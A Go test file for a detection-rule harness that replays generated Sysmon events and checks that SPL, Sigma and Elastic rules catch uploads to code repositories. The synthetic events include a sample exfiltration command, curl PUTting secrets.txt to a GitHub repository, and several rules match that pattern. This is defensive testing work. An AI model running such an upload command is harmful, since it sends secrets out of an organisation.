package harness

import (
	"context"
	"fmt"
	"io/fs"
	"os"
	"strconv"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/atomics"
	"github.com/t1567001/harness/event"
	"github.com/t1567001/harness/rules"
	"github.com/t1567001/harness/validate"
)

// plantEvery is how often the generated stream holds an upload to
// api.github.com; noiseCurlEvery how often a curl.exe start to another
// site, the first step of a sequence that never completes.
const (
	plantEvery     = 100_000
	noiseCurlEvery = 1000
)

// generated is a Recording of n Sysmon events of the workstation context,
// made one at a time into one event that is reused (the stream is never
// held): svchost.exe starts, a curl.exe start to example.org every
// noiseCurlEvery events, and every plantEvery events an upload: curl.exe's
// start with a PUT to the Contents API, then its connection to
// api.github.com. Events are 10 ms apart.
func generated(n int) Recording {
	return func(f func(*event.Event) error) error {
		t0 := time.Date(2026, 1, 5, 9, 0, 0, 0, time.UTC)
		ev := event.Event{Provider: event.Sysmon, Channel: event.SysmonChannel, Computer: "WS-FIN-0142.corp.example", Context: "workstation"}
		data := make([]event.Field, 0, 8)
		for i := range n {
			ev.RecordID = uint64(i + 1)
			ev.TimeCreated = t0.Add(time.Duration(i) * 10 * time.Millisecond)
			guid := "{7B3D2C51-0000-0000-" + strconv.Itoa(i) + "}"
			ev.EventID = 1
			data = append(data[:0], event.Field{Name: "ProcessGuid", Value: guid}, event.Field{Name: "User", Value: `CORP\j.doe`},
				event.Field{Name: "ParentImage", Value: `C:\Windows\explorer.exe`})
			switch k := i / plantEvery; {
			case i%plantEvery == plantEvery-2:
				data = append(data, event.Field{Name: "Image", Value: `C:\Windows\System32\curl.exe`},
					event.Field{Name: "CommandLine", Value: fmt.Sprintf(`curl.exe -X PUT https://api.github.com/repos/acme/r/contents/f%d -d @secrets.txt`, k)})
			case i%plantEvery == plantEvery-1:
				// The connection of the upload started one event before.
				ev.EventID = 3
				data[0].Value = "{7B3D2C51-0000-0000-" + strconv.Itoa(i-1) + "}"
				data = append(data[:2], event.Field{Name: "Image", Value: `C:\Windows\System32\curl.exe`},
					event.Field{Name: "DestinationHostname", Value: "api.github.com"}, event.Field{Name: "DestinationIp", Value: "140.82.112.6"},
					event.Field{Name: "DestinationPort", Value: "443"})
			case i%noiseCurlEvery == noiseCurlEvery-1:
				data = append(data, event.Field{Name: "Image", Value: `C:\Windows\System32\curl.exe`},
					event.Field{Name: "CommandLine", Value: "curl.exe https://example.org/"})
			default:
				data = append(data, event.Field{Name: "Image", Value: `C:\Windows\System32\svchost.exe`},
					event.Field{Name: "CommandLine", Value: `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`})
			}
			ev.Data = data
			if err := f(&ev); err != nil {
				return err
			}
		}
		return nil
	}
}

// elasticRule is an Elastic rule file of type typ on the Sysmon data
// stream; extra is TOML after the query.
func elasticRule(typ, lang, query, extra string) *fstest.MapFile {
	return &fstest.MapFile{Data: []byte(fmt.Sprintf("[rule]\nrule_id = %q\nname = %q\ntype = %q\nlanguage = %q\nindex = [\"logs-windows.sysmon_operational-*\"]\nseverity = \"high\"\nrisk_score = 73\nquery = '''\n%s\n'''\n%s",
		typ, typ, typ, lang, query, extra))}
}

// streamRules are the seed SPL query, a Sigma rule and a rule of each
// Elastic type, as a rules folder.
func streamRules(t testing.TB, plants int) []validate.Rule {
	seed, err := fs.ReadFile(rules.FS, "seed_t1567_001_code_repo_exfil.spl")
	require.NoError(t, err)
	sigmaNet, err := fs.ReadFile(rules.FS, "seed_t1567_001_code_repo_exfil_net.yml")
	require.NoError(t, err)
	folder := fstest.MapFS{
		"seed.spl":  {Data: seed},
		"sigma.yml": {Data: sigmaNet},
		"kql.toml":  elasticRule("query", "kuery", `event.category:process and process.name:"curl.exe" and process.command_line:*api.github.com*`, ""),
		"eql.toml":  elasticRule("eql", "eql", `network where process.name : "curl.exe" and destination.domain : "api.github.com"`, ""),
		"sequence.toml": elasticRule("eql", "eql", `sequence by process.entity_id with maxspan=1m
  [process where process.name : "curl.exe"]
  [network where destination.domain : "api.github.com"]`, ""),
		"threshold.toml": elasticRule("threshold", "kuery", `event.category:network and destination.domain:"api.github.com"`,
			fmt.Sprintf("[rule.threshold]\nfield = [\"host.name\"]\nvalue = %d\n[[rule.threshold.cardinality]]\nfield = \"process.entity_id\"\nvalue = %d\n", plants, plants)),
		"new_terms.toml": elasticRule("new_terms", "kuery", `event.category:process and process.name:"curl.exe"`,
			"[rule.new_terms]\nfield = \"new_terms_fields\"\nvalue = [\"process.command_line\"]\n"),
		"esql.toml": {Data: []byte(fmt.Sprintf(`[rule]
rule_id = "esql"
name = "esql"
type = "esql"
language = "esql"
severity = "high"
risk_score = 73
query = '''
from logs-windows.sysmon_operational-*
| where event.code == "3" and destination.domain == "api.github.com"
| stats uploads = count(*), processes = count_distinct(process.entity_id) by host.name
| where uploads >= %d
'''
`, plants))},
	}
	conv, err := ECSConverter(nil)
	require.NoError(t, err)
	loaded, unsupported, err := validate.LoadRules(folder, validate.Options{ECS: conv})
	require.NoError(t, err)
	require.Empty(t, unsupported)
	require.Len(t, loaded, 8)
	return loaded
}

const streamExpectations = `expect:
  workstation:
  - rule: seed
    fires: true
    signal: CodeRepoAPIUpload
    score: 3
  - rule: seed
    fires: true
    signal: NetworkConnectionToCodeRepo
    score: 2
  - rule: seed
    fires: false
    signal: GitPushExternal
  - rule: sigma
    fires: true
  - rule: kql
    fires: true
  - rule: eql
    fires: true
  - rule: sequence
    fires: true
  - rule: threshold
    fires: true
  - rule: new_terms
    fires: true
  - rule: esql
    fires: true
  - rule: eql
    fires: false
    why: a wrong expectation, so that its verdict is explained from the stream
`

// streamEvents is how many events TestValidateExpectStreams generates:
// HARNESS_STREAM_EVENTS (2000000 for the 2 M run, a minute or two), or
// 200,000 (100,000 with -short): what it asserts does not grow with the
// stream, and the suite runs under the race detector.
func streamEvents(t testing.TB) int {
	if s := os.Getenv("HARNESS_STREAM_EVENTS"); s != "" {
		n, err := strconv.Atoi(s)
		require.NoError(t, err, "HARNESS_STREAM_EVENTS")
		require.Positive(t, n, "HARNESS_STREAM_EVENTS")
		return n
	}
	if testing.Short() {
		return plantEvery
	}
	return 2 * plantEvery
}

// validate --expect's check over a generated stream: every rule gives the
// verdict it should, and none holds more of the stream than its state
// needs: the seed query's sort the rows that passed it, the sequence only
// the partial sequences maxspan leaves alive (not the thousands of curl
// starts that never complete), the threshold and ES|QL stats the sources
// of their one group, the rest nothing.
func TestValidateExpectStreams(t *testing.T) {
	t.Parallel()
	n := streamEvents(t)
	plants := n / plantEvery
	require.Positive(t, plants)
	exps, err := atomics.LoadExpectations("stream.yaml", []byte(streamExpectations))
	require.NoError(t, err)
	verdicts, st, err := CheckExpectations(context.Background(), streamRules(t, plants), generated(n), exps)
	require.NoError(t, err)
	assert.Equal(t, n, st.Events, "the events are read once, and again only for explanations (not counted)")
	require.Len(t, verdicts, 11)
	for _, v := range verdicts[:10] {
		assert.True(t, v.Pass, "%s %s: %s", v.Rule, v.Expected, v.Explanation)
	}
	rows := map[string]int{}
	for _, v := range verdicts[:10] {
		rows[v.Rule+" "+v.Expected.String()] = len(v.Actual.Rows) + v.Actual.More
	}
	assert.Equal(t, map[string]int{
		"seed fires CodeRepoAPIUpload/3": plants, "seed fires NetworkConnectionToCodeRepo/2": plants, "seed no GitPushExternal row": 0,
		"sigma fires": plants, "kql fires": plants, "eql fires": plants, "sequence fires": plants,
		"threshold fires": 1, "new_terms fires": plants + 1, "esql fires": 1,
	}, rows)

	wrong := verdicts[10]
	assert.False(t, wrong.Pass)
	assert.Contains(t, wrong.Explanation, fmt.Sprintf("fires %d time(s) where it should stay silent", plants))

	// Each row's evidence names its events, although none was held.
	seq := verdicts[6]
	require.Equal(t, "sequence", seq.Rule)
	require.NotEmpty(t, seq.Actual.Evidence)
	require.Len(t, seq.Actual.Evidence[0], 2)
	assert.Equal(t, uint64(plantEvery-1), seq.Actual.Evidence[0][0].RecordID)
	assert.Equal(t, uint64(plantEvery), seq.Actual.Evidence[0][1].RecordID)
	assert.Equal(t, []event.Provenance{event.Recorded}, seq.RestsOn)

	t.Logf("held per rule: %v; event references: %d", st.Held, st.Refs)
	// 1 minute of maxspan is 6,000 events, 6 noise curl starts; a sweep
	// comes every 1,024 documents (two per event).
	assert.LessOrEqual(t, st.Held["sequence"], 20, "the sequence keeps only the partial sequences maxspan leaves alive")
	assert.Equal(t, 2*plants, st.Held["seed"], "the seed query's sort holds the rows that passed it, no other event")
	assert.Equal(t, plants, st.Held["threshold"])
	assert.Equal(t, plants, st.Held["esql"])
	for _, id := range []string{"sigma", "kql", "eql", "new_terms"} {
		assert.Zero(t, st.Held[id], "%s keeps no event", id)
	}
	assert.LessOrEqual(t, st.Refs, 4*plants+20, "the check remembers only the events the rules keep")
}

// The check stops when its context is done, mid-stream.
func TestValidateExpectCancels(t *testing.T) {
	t.Parallel()
	exps, err := atomics.LoadExpectations("stream.yaml", []byte(streamExpectations))
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	events := generated(10 * plantEvery)
	read := 0
	stopping := func(f func(*event.Event) error) error {
		return events(func(ev *event.Event) error {
			if read++; read == 5000 {
				cancel()
			}
			return f(ev)
		})
	}
	_, st, err := CheckExpectations(ctx, streamRules(t, 1), stopping, exps)
	require.ErrorIs(t, err, context.Canceled)
	assert.Less(t, st.Events, 5100, "every engine looks at its context at least every 64 events")
}
